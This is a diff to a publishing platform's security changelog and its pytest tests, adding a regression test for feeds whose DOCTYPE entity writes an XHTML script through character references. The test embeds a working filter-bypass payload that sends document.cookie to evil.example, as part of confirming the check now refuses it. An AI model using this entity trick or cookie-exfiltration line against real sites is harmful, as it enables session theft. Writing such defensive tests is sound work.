@@ -17,9 +17,13 @@ Numbers as people write them (privacy/numbers.py `_references_shown`) —
   took <img> for a block though the reader's text runs through it). 1380013![](files/a.png)8000 was refused by the
   build only; now by the check too. A picture's text beside figures (图1![2024年]…) stays.
 
-A compromised department CI job — held: .css, .js, .mjs, .svg, .xhtml, .shtml, .md, .webmanifest and files without an
-extension in a unit's output (E700, not a type a unit writes); a feed with <?xml-stylesheet?> or an XHTML
-<h:script>/<h:img> (E700).
+A compromised department CI job (rules/rendered.py `published_file_problem`) —
+- fixed: a unit's feed.xml (or any .xml it hands over) with a document type whose entity writes an XHTML <script> by
+  character references (xml&#110;s:h=…): no xmlns attribute for the namespace check to see; Chromium expands the
+  entity and runs the script when the feed is opened (tried with chromium --dump-dom). Merged with exit 0; now E700.
+  The build writes no document type into a feed or sitemap.
+- held: .css, .js, .mjs, .svg, .xhtml, .shtml, .md, .webmanifest and files without an extension in a unit's output
+  (E700, not a type a unit writes); a feed with <?xml-stylesheet?> or an XHTML <h:script>/<h:img> (E700).
 
 Import (`disclosure import`) — held: attachment links out of the imported folder written with %2F, %2e%2e, ?query,
 #fragment, character references, file://, a/../../.., a backslash (E801 or "not saved with the page", never copied).
@@ -118,6 +122,23 @@ def test_pictures_beside_figures_stay(tmp_path):
                          ids=["alt-between", "two-alts", "picture-between"])
 def test_a_sealed_page_with_a_number_completed_by_a_picture_is_refused(platform, shown):
     _refused_on_a_sealed_page(platform, f"<p>值班手机{shown}</p>")
+
+
+# A unit's feed whose document type defines an entity that writes an XHTML script with character references
+# (xml&#110;s:h=…): Chromium expands it on opening the feed and runs the script (tried with chromium --dump-dom).
+_ENTITY_SCRIPT = ("<!DOCTYPE feed [\n<!ENTITY x \"&#60;h:script xml&#110;s:h='http://www.w3.org/1999/xhtml'&#62;"
+                  "fetch('https://evil.example/'+document.cookie)&#60;/h:script&#62;\">\n]>\n")
+
+
+@pytest.mark.parametrize("feed", ["jyj/jyj/feed.xml", "gov/gov/feed.xml"])
+def test_a_units_feed_writing_a_script_through_an_entity_is_refused(platform, feed):
+    path = platform / "build/units" / feed
+    text = path.read_text(encoding="utf-8")
+    start = text.index("<feed")
+    path.write_text(text[:start] + _ENTITY_SCRIPT + text[start:].replace("</feed>", "&x;</feed>"), encoding="utf-8")
+    unit = feed.split("/")[0]
+    _seal(platform, unit)
+    refused(platform, f"build/units/{feed}:1: E700 ", "文档类型定义")
 
 
 def test_an_indented_comment_is_a_comment_in_check_and_build(tmp_path):
